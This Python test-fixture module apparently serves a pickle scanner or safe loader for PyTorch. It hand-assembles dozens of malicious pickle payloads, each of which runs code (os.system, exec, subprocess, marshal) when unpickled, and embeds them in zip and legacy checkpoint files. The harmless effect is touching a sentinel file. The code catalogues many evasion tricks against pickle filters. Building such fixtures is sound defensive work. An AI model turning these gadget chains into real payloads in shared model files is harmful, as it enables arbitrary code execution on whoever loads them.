"""Malicious pickles, opcode by opcode: each makes the file `sentinel` when a real unpickler reads it.

`payloads(sentinel)` gives name -> opcodes that leave one object on the stack; `checkpoint(payload, form)`
wraps them with a tensor into a file as torch would write it. Opcodes: pickletools of the standard library.
"""

import io
import marshal
import pickle
import struct
import zipfile

import torch

VALUES = torch.arange(6.0).view(2, 3)  # the tensor of every file here
NAME = "model.diffusion_model.a.weight"
NONE, TRUE, FALSE, EMPTY, MARK = b"N", b"\x88", b"\x89", b")", b"("


def text(value):
    data = str(value).encode()
    return b"X" + struct.pack("<I", len(data)) + data


def data(value):
    return b"B" + struct.pack("<I", len(value)) + value


def name(path):
    """GLOBAL: the class or function `module.name`."""
    module, _, last = path.rpartition(".")
    return f"c{module}\n{last}\n".encode()


def found(module, path):
    """STACK_GLOBAL, which follows dots inside a module."""
    return text(module) + text(path) + b"\x93"


def many(*items):
    """TUPLE."""
    return MARK + b"".join(items) + b"t"


def call(function, *arguments):
    """REDUCE."""
    return function + many(*arguments) + b"R"


def listed(*items):
    return b"](" + b"".join(items) + b"e"


def table(**entries):
    return b"}(" + b"".join(text(key) + value for key, value in entries.items()) + b"u"


def number(value):
    return b"K" + bytes([value])


def payloads(sentinel):
    """name -> opcodes. Each makes the file `sentinel` by another way."""
    shell, code = text(f"touch {sentinel}"), text(f"open({str(sentinel)!r}, 'w').close()")
    system, os_ = name("posix.system"), call(name("builtins.__import__"), text("os"))
    attribute, made = name("builtins.getattr"), call(name("builtins.map"), system, listed(shell))
    bound = call(name("functools.partial"), system, shell)
    argv = listed(text("touch"), text(sentinel))
    compiled = marshal.dumps(compile(f"open({str(sentinel)!r}, 'w').close()", "x", "exec"))
    armed = table(__setstate__=system) + b"b" + shell + b"b"  # BUILD a __setstate__, then BUILD its argument
    return {
        "posix.system": call(system, shell),
        "nested reduce": call(call(attribute, os_, text("system")), shell),
        "eval": call(name("builtins.eval"), code),
        "exec": call(name("builtins.exec"), code),
        "compile": call(
            name("builtins.exec"), call(name("builtins.compile"), code, text("x"), text("exec"))
        ),
        "open": call(name("builtins.open"), text(sentinel), text("w")),
        "FileIO": call(name("_io.FileIO"), text(sentinel), text("w")),
        "importlib": call(
            call(attribute, call(name("importlib.import_module"), text("os")), text("system")), shell
        ),
        "pydoc.locate": call(call(name("pydoc.locate"), text("os.system")), shell),
        "pkgutil": call(call(name("pkgutil.resolve_name"), text("os:system")), shell),
        "check_call": call(name("subprocess.check_call"), argv),
        "Popen": call(call(attribute, call(name("subprocess.Popen"), argv), text("wait"))),
        "getoutput": call(name("subprocess.getoutput"), shell),
        "runpy": call(name("runpy._run_code"), code, b"}"),
        "timeit": call(name("timeit.timeit"), text("pass"), code, name("time.time"), number(1)),
        "cProfile": call(call(attribute, call(name("cProfile.Profile")), text("run")), code),
        "bdb": call(call(attribute, call(name("bdb.Bdb")), text("run")), code),
        "InteractiveInterpreter": call(
            call(attribute, call(name("code.InteractiveInterpreter")), text("runsource")), code
        ),
        "marshal": call(
            call(name("types.FunctionType"), call(name("marshal.loads"), data(compiled)), table())
        ),
        "pickle in a pickle": call(
            name("_pickle.loads"), data(b"\x80\x02" + call(system, shell) + b".")
        ),
        "cpp_extension": call(found("torch.utils.cpp_extension", "subprocess.check_call"), argv),
        "methodcaller": call(call(name("operator.methodcaller"), text("system"), shell), os_),
        "attrgetter": call(call(call(name("operator.attrgetter"), text("system")), os_), shell),
        "partial": call(bound),
        "map": call(name("builtins.list"), made),
        "max of a map": call(name("builtins.max"), made),
        "OrderedDict of a map": call(name("collections.OrderedDict"), made),
        "torch.Size of a map": call(name("torch.Size"), made),
        "default_factory": call(
            name("operator.getitem"), call(name("collections.defaultdict"), bound), number(1)
        ),
        "rebuild_from_type": call(
            name("torch._tensor._rebuild_from_type_v2"), system, name("torch.Tensor"), many(shell), b"}"
        ),
        "INST": MARK + shell + b"iposix\nsystem\n",
        "OBJ": MARK + system + shell + b"o",
        "NEWOBJ": name("builtins.tuple") + many(made) + b"\x81",
        "NEWOBJ_EX": name("builtins.frozenset") + many(made) + b"}\x92",
        "BUILD setstate": name("argparse.Namespace") + EMPTY + b"\x81" + armed,
        "BUILD onto OrderedDict": call(name("collections.OrderedDict")) + armed,
        "BUILD onto a function": name("torch._utils._rebuild_parameter") + armed,
        "slotstate": name("argparse.Namespace") + EMPTY + b"\x81"
        + many(NONE, table(__setstate__=system)) + b"b" + shell + b"b",
        "EXT1": call(extension(200, b"\x82\xc8"), shell),
        "EXT2": call(extension(201, b"\x83\xc9\x00"), shell),
        "EXT4": call(extension(202, b"\x84\xca\x00\x00\x00"), shell),
        "dotted name": call(found("os", "path.os.system"), shell),
        "name from the memo": call(
            text("posix") + b"q\xc80" + text("system") + b"q\xc90h\xc8h\xc9\x93", shell
        ),
        **refused(shell, system, attribute),
    }  # fmt: skip


def extension(code, opcode):
    """posix.system by its number in the registry of extensions, where the pickle itself has put it before."""
    entry = number(code) + many(text("posix"), text("system"))
    return name("copyreg._inverted_registry") + entry + b"s0" + opcode


REFUSED = (
    "torch.Size of a map",
    "computed name",
    "PERSID",
    "payload as persistent id",
    "payload as storage class",
)


def refused(shell, system, attribute):
    """Those that cannot be told from damage: the file is refused, its tensors too."""
    module = call(call(attribute, text(""), text("join")), listed(text("po"), text("six")))
    return {
        "computed name": call(module + text("system") + b"\x93", shell),
        "PERSID": call(system, shell) + b"0Pstorage\n",
        "payload as persistent id": call(system, shell) + b"Q",
        "payload as storage class": many(
            text("storage"), call(system, shell), text("0"), text("cpu"), number(6)
        ) + b"Q",
    }  # fmt: skip


def control(payload):
    """A pickle of the payload alone, for a real unpickler."""
    return b"\x80\x04" + payload + b"."


def program(payload, legacy):
    """data.pkl: {"state_dict": {NAME: tensor}, "evil": payload}."""
    state = b"}" + text(NAME) + tensor(legacy) + b"s"
    return b"\x80\x02}" + text("state_dict") + state + b"s" + text("evil") + payload + b"s."


def tensor(legacy=False, location="cpu", key="0"):
    """The call that makes the tensor of every file here."""
    view = (NONE,) if legacy else ()
    storage = (
        many(text("storage"), name("torch.FloatStorage"), text(key), text(location), number(6), *view) + b"Q"
    )
    return call(
        name("torch._utils._rebuild_tensor_v2"),
        storage,
        number(0),
        many(number(2), number(3)),
        many(number(3), number(1)),
        FALSE,
        call(name("collections.OrderedDict")),
    )


def checkpoint(payload, form):
    """The bytes of a checkpoint with the payload beside its tensor. form: 'zip' or 'legacy'."""
    return (zipped if form == "zip" else legacy)(program(payload, form == "legacy"))


def zipped(pickled, values=VALUES):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", values.numpy().tobytes())
    return stream.getvalue()


def legacy(pickled, values=VALUES):
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = [pickle.dumps(item, 2) for item in (0x1950A86A20F9469CFC6C, 1001, system)]
    storage = struct.pack("<q", values.numel()) + values.numpy().tobytes()
    return b"".join([*head, pickled, pickle.dumps(["0"], 2), storage])
